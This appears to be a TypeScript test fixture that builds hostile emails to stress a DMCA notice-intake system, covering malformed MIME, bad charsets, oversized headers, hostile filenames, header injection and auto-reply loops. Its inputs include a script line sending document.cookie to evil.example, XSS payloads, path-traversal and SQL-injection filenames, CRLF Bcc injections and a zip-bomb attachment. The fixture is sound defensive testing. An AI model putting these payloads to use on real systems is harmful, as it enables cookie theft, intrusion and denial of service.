import { zipBomb } from '../support/zip-bomb.js';

/**
 * Generated hostile mail, by category. Each input says whether a machine
 * wrote it (then nothing may ever answer it) and may carry a marker that
 * must never show up as a header of any reply.
 */
export interface HostileInput {
  category: string;
  name: string;
  raw: Buffer;
  /** Mail a machine wrote, or our own: it must be ignored and never answered. */
  automated: boolean;
  /** Send through this path only (large inputs stay off IMAP). */
  path?: 'import' | 'drop' | 'imap';
}

export const OWN = 'ipr@noticedesk.test';
export const INJECTED = 'X-Hostile-Injected';
export const VICTIM = 'victim@injected.example';

const NOTICE = [
  'I am the owner of the copyrighted source code of the Orbit engine, published at https://orbit-labs.example/engine.',
  'The repository https://github.com/copycat-dev/stolen-engine copies it in full.',
  'I have a good faith belief that use of the material is not authorized by the copyright owner, its agent, or the law.',
  'I swear, under penalty of perjury, that the information in this notification is accurate and that I am authorized to act on behalf of the owner.',
  'Sam Okafor, 4 Quay Street, Manchester, +44 161 555 0100',
  '/s/ Sam Okafor',
].join('\r\n\r\n');

let seq = 0;
const mid = (tag: string) => `<hostile-${tag}-${++seq}@attacker.example>`;

function mail(headers: Array<[string, string]>, body: string | Buffer = NOTICE): Buffer {
  const head = headers.map(([k, v]) => `${k}: ${v}`).join('\r\n');
  return Buffer.concat([Buffer.from(`${head}\r\n\r\n`, 'utf8'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'utf8')]);
}

/** The usual headers; a header given in `extra` takes the place of the usual one of that name. */
function base(tag: string, extra: Array<[string, string]> = [], from = 'Sam Okafor <sam@orbit-labs.example>'): Array<[string, string]> {
  const usual: Array<[string, string]> = [['From', from], ['To', OWN], ['Subject', 'DMCA notice'], ['Message-ID', mid(tag)], ['Date', 'Mon, 02 Nov 2026 09:00:00 +0000']];
  const replaced = new Set(extra.map(([k]) => k.toLowerCase()));
  return [...usual.filter(([k]) => !replaced.has(k.toLowerCase())), ...extra];
}

function malformedMime(): HostileInput[] {
  const out: HostileInput[] = [];
  const add = (name: string, raw: Buffer, path?: HostileInput['path']) => out.push({ category: 'malformed MIME', name, raw, automated: false, path });
  add('multipart without boundary', mail(base('nob', [['Content-Type', 'multipart/mixed']]), `--x\r\n\r\n${NOTICE}\r\n--x--\r\n`));
  add('boundary never used', mail(base('unused', [['Content-Type', 'multipart/mixed; boundary="abc"']]), NOTICE));
  add('unterminated multipart', mail(base('unterm', [['Content-Type', 'multipart/mixed; boundary="b"']]), `--b\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--b\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4 cut`));
  add('part without headers', mail(base('nohead', [['Content-Type', 'multipart/mixed; boundary="b"']]), `--b\r\n\r\n${NOTICE}\r\n--b--\r\n`));
  add('empty file', Buffer.alloc(0));
  add('only headers', Buffer.from(`From: a@b.example\r\nSubject: x\r\nMessage-ID: ${mid('onlyhead')}\r\n`));
  add('no header separator', Buffer.from(`From: a@b.example\r\nMessage-ID: ${mid('nosep')}\r\n${NOTICE}`));
  add('binary garbage', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 131 + 7) % 256)));
  add('NUL bytes in body', mail(base('nul'), `${NOTICE}\u0000\u0000\u0000more`));
  add('bad base64', mail(base('b64', [['Content-Transfer-Encoding', 'base64']]), '!!!not base64 at all@@@'));
  add('bad quoted-printable', mail(base('qp', [['Content-Transfer-Encoding', 'quoted-printable']]), `${NOTICE}=ZZ=\r\n=`));
  add('unknown transfer encoding', mail(base('cte', [['Content-Transfer-Encoding', 'x-rot13']])));
  for (const depth of [50, 120, 300]) {
    let body = `Content-Type: text/plain\r\n\r\n${NOTICE}`;
    for (let d = 0; d < depth; d++) body = `Content-Type: multipart/mixed; boundary="d${d}"\r\n\r\n--d${d}\r\n${body}\r\n--d${d}--`;
    const [head, ...rest] = body.split('\r\n\r\n');
    add(`nesting depth ${depth}`, mail([...base(`depth${depth}`), ['MIME-Version', '1.0'], [head!.split(': ')[0]!, head!.split(': ').slice(1).join(': ')]], rest.join('\r\n\r\n')));
  }
  for (const parts of [1000, 10_000]) {
    const body = Array.from({ length: parts }, (_, i) => `--p\r\nContent-Type: text/plain\r\n\r\npart ${i}`).join('\r\n') + '\r\n--p--\r\n';
    add(`${parts} parts`, mail(base(`parts${parts}`, [['Content-Type', 'multipart/mixed; boundary="p"']]), body), 'import');
  }
  add('rfc822 inside rfc822 loop', mail(base('rfc', [['Content-Type', 'multipart/mixed; boundary="b"']]), `--b\r\nContent-Type: message/rfc822\r\n\r\n${mail(base('inner', [['Content-Type', 'message/rfc822']]), mail(base('inner2')).toString('latin1')).toString('latin1')}\r\n--b--\r\n`));
  add('content-type garbage', mail(base('ctg', [['Content-Type', ';;;==="\\']])));
  add('charset param without value', mail(base('cpv', [['Content-Type', 'text/plain; charset=']])));
  add('lone CR line ends', Buffer.from(mail(base('cr')).toString('latin1').replace(/\r\n/g, '\r')));
  add('LF only', Buffer.from(mail(base('lf')).toString('latin1').replace(/\r\n/g, '\n')));
  add('header with no colon', Buffer.concat([Buffer.from('this line has no colon\r\n'), mail(base('nocolon'))]));
  add('folded header forever', mail(base('fold', [['X-Fold', Array.from({ length: 2000 }, () => 'a').join('\r\n ')]])));
  add('html with broken tags', mail(base('brokenhtml', [['Content-Type', 'text/html']]), `<html><body><p>${NOTICE}<div<div<div<<<<>>>></table></td>`));
  add('alternative with no text', mail(base('alt', [['Content-Type', 'multipart/alternative; boundary="a"']]), '--a\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--a--\r\n'));
  add('attachment with zip bomb', mail(base('zipbomb', [['Content-Type', 'multipart/mixed; boundary="z"']]), `--z\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--z\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename="evidence.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${zipBomb(4000 * 1024 * 1024).toString('base64')}\r\n--z--\r\n`));
  add('script-laden HTML', mail(base('script', [['Content-Type', 'text/html']]), `<html><head><script>alert(1)</script><meta http-equiv="refresh" content="0;url=javascript:alert(2)"></head><body onload="alert(3)"><img src=x onerror=alert(4)><iframe src="javascript:alert(5)"></iframe><p>${NOTICE}</p><svg onload=alert(6)></svg></body></html>`));
  add('script in a text part', mail(base('scripttext'), `<script>fetch('//evil.example/'+document.cookie)</script>\r\n${NOTICE}`));
  return out;
}


function charsets(): HostileInput[] {
  const out: HostileInput[] = [];
  const names = ['x-unknown', 'utf-7', 'utf-16', 'utf-32', 'gb18030', 'big5', 'shift_jis', 'iso-2022-jp', 'koi8-r', 'windows-1252', 'ebcdic-cp-us', 'utf8; foo', '"', 'iso-8859-99', 'x-mac-klingon'];
  for (const charset of names) {
    out.push({ category: 'bad charsets', name: `charset ${charset}`, raw: mail(base('cs', [['Content-Type', `text/plain; charset=${charset}`]]), Buffer.from([...Buffer.from(NOTICE), 0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1])), automated: false });
  }
  const words = ['=?utf-8?B?!!!?=', '=?x-unknown?Q?caf=E9?=', '=?utf-8?Q?=0D=0A?=', '=?utf-7?B?K0FHRUFZUUJq?=', '=?iso-8859-1?Q?', '=?utf-8?B?' + Buffer.from('\u202e\u0000evil').toString('base64') + '?='];
  for (const w of words) out.push({ category: 'bad charsets', name: `encoded word ${w.slice(0, 20)}`, raw: mail(base('ew', [['Subject', `DMCA ${w} notice`]])), automated: false });
  out.push({ category: 'bad charsets', name: 'invalid UTF-8 throughout', raw: mail(base('inv', [['Content-Type', 'text/plain; charset=utf-8']]), Buffer.from(Array.from({ length: 2000 }, (_, i) => (i % 2 ? 0xc0 : 0x80)))), automated: false });
  out.push({ category: 'bad charsets', name: 'UTF-16 BOM in UTF-8 part', raw: mail(base('bom'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(NOTICE, 'utf16le')])), automated: false });
  out.push({ category: 'bad charsets', name: '8-bit headers', raw: Buffer.concat([Buffer.from('From: S\xe9bastien <seb@orbit-labs.example>\r\nSubject: Notificaci\xf3n\r\n', 'latin1'), mail(base('8bit').slice(1))]), automated: false });
  return out;
}

function hugeHeaders(): HostileInput[] {
  const out: HostileInput[] = [];
  const add = (name: string, raw: Buffer, path?: HostileInput['path']) => out.push({ category: 'huge headers', name, raw, automated: false, path });
  add('1 MB header', mail(base('1mb', [['X-Padding', 'a '.repeat(512 * 1024)]])), 'import');
  add('1 MB folded header', mail(base('1mbf', [['X-Padding', Array.from({ length: 16 * 1024 }, () => 'b'.repeat(60)).join('\r\n ')]])), 'drop');
  add('10,000 headers', mail([...base('10k'), ...Array.from({ length: 10_000 }, (_, i) => [`X-H${i}`, `value ${i}`] as [string, string])]), 'import');
  add('10,000 Received headers', mail([...Array.from({ length: 10_000 }, (_, i) => ['Received', `from hop${i}.example by mx.example; Mon, 02 Nov 2026 09:00:00 +0000`] as [string, string]), ...base('10kr')]), 'drop');
  add('5,000 To addresses', mail(base('manyto', [['Cc', Array.from({ length: 5000 }, (_, i) => `u${i}@x.example`).join(', ')]])));
  add('long display name', mail(base('longname', [], `"${'Sam '.repeat(5000)}" <sam@orbit-labs.example>`)));
  add('20 KB subject', mail(base('longsubj', [['Subject', 'DMCA notice '.repeat(1700)]])));
  add('1,000 References', mail(base('refs', [['References', Array.from({ length: 1000 }, (_, i) => `<r${i}@x.example>`).join(' ')]])));
  add('60 MB attachment', mail(base('60mb', [['Content-Type', 'multipart/mixed; boundary="big"']]), Buffer.concat([Buffer.from(`--big\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--big\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="huge.pdf"\r\n\r\n`), Buffer.alloc(60 * 1024 * 1024, 0x41), Buffer.from('\r\n--big--\r\n')])), 'drop');
  add('many Message-IDs', mail([...base('manymid'), ['Message-ID', '<second@x.example>'], ['Message-ID', '<third@x.example>']]));
  return out;
}

function hostileFilenames(): HostileInput[] {
  const names = ['../../../../etc/passwd', '..\\..\\windows\\system32\\config', '/absolute/path.pdf', 'a\u0000b.pdf', 'evil\r\nX-Hostile-Injected: 1.pdf', 'x'.repeat(5000) + '.pdf', '\u202egpj.exe', 'CON', 'aux.pdf', '.', '..', '.htaccess', ' ', '', '=?utf-8?B?Li4vLi4vZXRjL3Bhc3N3ZA==?=', "'; DROP TABLE cases; --.pdf", '<script>alert(1)</script>.pdf', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'file:///etc/passwd', 'nested/dir/evidence.pdf'];
  return names.map((filename, i) => ({
    category: 'hostile filenames',
    name: `filename ${JSON.stringify(filename).slice(0, 30)}`,
    automated: false,
    raw: mail(base(`fn${i}`, [['Content-Type', 'multipart/mixed; boundary="f"']]), `--f\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--f\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="${filename.replace(/"/g, '\\"')}"\r\n\r\n%PDF-1.4\r\n%%EOF\r\n--f--\r\n`),
  }));
}

function headerInjection(): HostileInput[] {
  const crlf = (s: string) => `=?utf-8?B?${Buffer.from(s).toString('base64')}?=`;
  const variants: Array<[string, Array<[string, string]>, string?]> = [
    ['CRLF Bcc in encoded display name', [], `${crlf(`Sam\r\nBcc: ${VICTIM}\r\n${INJECTED}: 1`)} <sam@orbit-labs.example>`],
    ['CRLF in encoded subject', [['Subject', crlf(`DMCA\r\nBcc: ${VICTIM}\r\n${INJECTED}: 1`)]]],
    ['LF in encoded subject', [['Subject', crlf(`DMCA\n${INJECTED}: 1`)]]],
    ['percent-encoded CRLF in Reply-To', [['Reply-To', `<x%0d%0aBcc:${VICTIM}>`]]],
    ['group Reply-To', [['Reply-To', `undisclosed: a@x.example, ${VICTIM};`]]],
    ['two Reply-To addresses', [['Reply-To', `a@x.example, ${VICTIM}`]]],
    ['quoted comma local part', [['Reply-To', `"a,${VICTIM}"@x.example`]]],
    ['two From addresses', [], `sam@orbit-labs.example, ${VICTIM}`],
    ['group From', [], `team: sam@orbit-labs.example, ${VICTIM};`],
    ['From with CRLF in comment', [], `sam@orbit-labs.example (${crlf(`\r\n${INJECTED}: 1`)})`],
    ['Sender and From differ', [['Sender', VICTIM]]],
    ['body names two emails, no From', [['From', '']]],
    ['NUL in subject', [['Subject', 'DMCA\u0000notice']]],
    ['encoded Bcc in Message-ID', [['Message-ID', `<a\r\n Bcc: ${VICTIM}@x>`]]],
    ['In-Reply-To with CRLF', [['In-Reply-To', crlf(`<a@b>\r\n${INJECTED}: 1`)]]],
    ['References with header', [['References', `<a@b> ${crlf(`\r\n${INJECTED}: 1`)}`]]],
    ['Return-Path victim', [['Return-Path', `<${VICTIM}>`]]],
    ['display name with angle brackets', [], `"<${VICTIM}>" <sam@orbit-labs.example>`],
    ['address with trailing CR', [], `sam@orbit-labs.example\r`],
    ['encoded-word address', [], `${crlf(VICTIM)} <sam@orbit-labs.example>`],
    ['forwarded From with two addresses', [['Subject', 'Fwd: DMCA notice']], 'Colleague <ola@orbit-labs.example>'],
    ['unicode line separator in name', [], `"Sam\u2028${INJECTED}: 1" <sam@orbit-labs.example>`],
    ['very long address', [], `${'a'.repeat(300)}@orbit-labs.example`],
    ['address without domain dot', [], 'sam@localhost'],
    ['IP literal address', [], 'sam@[127.0.0.1]'],
  ];
  return variants.map(([name, extra, from], i) => {
    const headers = base(`inj${i}`, [], from ?? 'Sam Okafor <sam@orbit-labs.example>');
    const merged = headers.filter(([k]) => !extra.some(([e]) => e.toLowerCase() === k.toLowerCase()));
    let body = `${NOTICE}\r\n\r\nEmail: a@x.example,${VICTIM}`;
    if (name.startsWith('forwarded')) body = `FYI\r\n\r\n---------- Forwarded message ---------\r\nFrom: Sam <sam@orbit-labs.example>, ${VICTIM}\r\nSubject: DMCA notice\r\n\r\n${NOTICE}`;
    return { category: 'header injection', name, automated: false, raw: mail([...merged, ...extra].filter(([, v]) => v !== ''), body) };
  });
}

function duplicates(): HostileInput[] {
  const out: HostileInput[] = [];
  for (let i = 0; i < 12; i++) {
    const id = `<dup-${i}@attacker.example>`;
    const headers: Array<[string, string]> = [['From', 'Sam Okafor <sam@orbit-labs.example>'], ['To', OWN], ['Subject', 'DMCA notice'], ['Message-ID', id]];
    out.push({ category: 'duplicate Message-IDs', name: `first of pair ${i}`, raw: mail(headers, `${NOTICE}\r\nhttps://github.com/dup-a/engine-${i}`), automated: false });
    out.push({ category: 'duplicate Message-IDs', name: `second of pair ${i}`, raw: mail(headers, `We hereby withdraw our complaint and retract the takedown request ${i}.`), automated: false });
  }
  return out;
}

function missing(): HostileInput[] {
  const out: HostileInput[] = [];
  const combos: Array<Array<'Message-ID' | 'From' | 'Date'>> = [['Message-ID'], ['From'], ['Date'], ['Message-ID', 'From'], ['Message-ID', 'Date'], ['From', 'Date'], ['Message-ID', 'From', 'Date']];
  for (const drop of combos) {
    for (const v of [0, 1]) {
      const headers = base(`miss${v}`).filter(([k]) => !drop.includes(k as never));
      out.push({ category: 'missing headers', name: `without ${drop.join(', ')} (${v})`, raw: mail(headers, `${NOTICE}\r\nhttps://github.com/missing-${drop.join('-')}/v${v}\r\nContact: a@x.example,${VICTIM}`), automated: false });
    }
  }
  out.push({ category: 'missing headers', name: 'empty From', raw: mail(base('emptyfrom').map(([k, v]) => (k === 'From' ? [k, ''] : [k, v]) as [string, string])), automated: false });
  return out;
}

function automated(): HostileInput[] {
  const out: HostileInput[] = [];
  const add = (name: string, raw: Buffer) => out.push({ category: 'automated mail', name, raw, automated: true });
  const report = (type: string, tag: string) => mail(base(tag, [['Content-Type', `multipart/report; report-type=${type}; boundary="r"`]], 'Mail System <mx@partner.example>'), `--r\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--r\r\nContent-Type: message/${type}\r\n\r\nReporting-MTA: dns; mx\r\n--r--\r\n`);
  for (const type of ['delivery-status', 'disposition-notification', 'feedback-report', 'something-else']) add(`multipart/report ${type}`, report(type, type));
  for (const v of ['auto-replied', 'auto-generated', 'auto-notified', 'AUTO-REPLIED; owner-email="x@y"']) add(`Auto-Submitted: ${v}`, mail(base('as', [['Auto-Submitted', v]])));
  for (const v of ['auto_reply', 'auto-reply', 'bulk', 'list', 'junk']) add(`Precedence: ${v}`, mail(base('prec', [['Precedence', v]])));
  for (const h of ['X-Autoreply', 'X-Autorespond', 'X-AutoGenerated', 'X-Auto-Reply-From', 'X-Mail-Autoreply', 'X-MS-Exchange-Inbox-Rules-Loop', 'X-MS-Exchange-Generated-Message-Source']) add(h, mail(base('xh', [[h, 'yes']])));
  add('X-Auto-Response-Suppress: All', mail(base('xars', [['X-Auto-Response-Suppress', 'All']])));
  for (const h of ['List-Id', 'List-Unsubscribe', 'List-Post', 'Mailing-List']) add(h, mail(base('list', [[h, '<list.example>']])));
  add('X-Loop naming us', mail(base('xloop', [['X-Loop', OWN]])));
  add('null Return-Path', mail([['Return-Path', '<>'], ...base('nullrp')]));
  for (const [from, subject] of [
    ['postmaster@mx.example', 'Nondeliverable mail'],
    ['MAILER-DAEMON@mx.example', 'Delivery Status Notification (Delay)'],
    ['postmaster@mx.example', 'Delivery delayed: DMCA notice'],
    ['helpdesk@exchange.example', 'Undeliverable: DMCA notice'],
    ['MAILER-DAEMON@mx.example', 'failure notice'],
    ['Mail Delivery System <bounces@mx.example>', 'Mail delivery failed: returning message to sender'],
  ] as const) add(`bounce "${subject}"`, mail(base('bounce', [['Subject', subject]], from)));
  for (const subject of ['Automatische Antwort: DMCA notice', 'Auto: DMCA notice', 'Automatic reply: DMCA notice', 'Out of Office: DMCA notice', 'Réponse automatique : DMCA', 'Risposta automatica: DMCA', '自动回复: DMCA', 'AutoReply: DMCA', 'Abwesenheitsnotiz: DMCA']) {
    add(`subject "${subject}"`, mail(base('autosubj', [['Subject', subject]])));
  }
  add('out-of-office body', mail(base('oofbody', [['Subject', 'Re: DMCA notice']]), 'Thank you for your message. I am currently out of the office with limited access to email and will reply when I return.'));
  add('German out-of-office body', mail(base('oofde', [['Subject', 'Re: DMCA']]), 'Vielen Dank. Ich bin derzeit nicht im Büro und ab Montag wieder erreichbar.'));
  return out;
}

function ownAddress(): HostileInput[] {
  const froms = [OWN, OWN.toUpperCase(), `${OWN}.`, 'ipr+loop@noticedesk.test', 'IPR+x@NoticeDesk.Test.', `Noticedesk <${OWN}>`, `"Someone else" <ipr@noticedesk.test>`];
  const out: HostileInput[] = froms.map((from, i) => ({ category: 'own address', name: `From ${from}`, raw: mail(base(`own${i}`, [], from)), automated: true }));
  out.push({ category: 'own address', name: 'our Message-ID', raw: mail(base('ownmid').map(([k, v]) => (k === 'Message-ID' ? [k, '<nd.loop-1@noticedesk.test>'] : [k, v]) as [string, string])), automated: true });
  out.push({ category: 'own address', name: 'our case header', raw: mail(base('ownhdr', [['X-Noticedesk-Case', 'ND-2026-000001']])), automated: true });
  out.push({ category: 'own address', name: 'X-Loop with tag', raw: mail(base('ownloop', [['X-Loop', 'ipr+loop@noticedesk.test']])), automated: true });
  return out;
}

/** Every generated input, in a fixed order. */
export function hostileInputs(): HostileInput[] {
  seq = 0;
  return [...malformedMime(), ...charsets(), ...hugeHeaders(), ...hostileFilenames(), ...headerInjection(), ...duplicates(), ...missing(), ...automated(), ...ownAddress()];
}
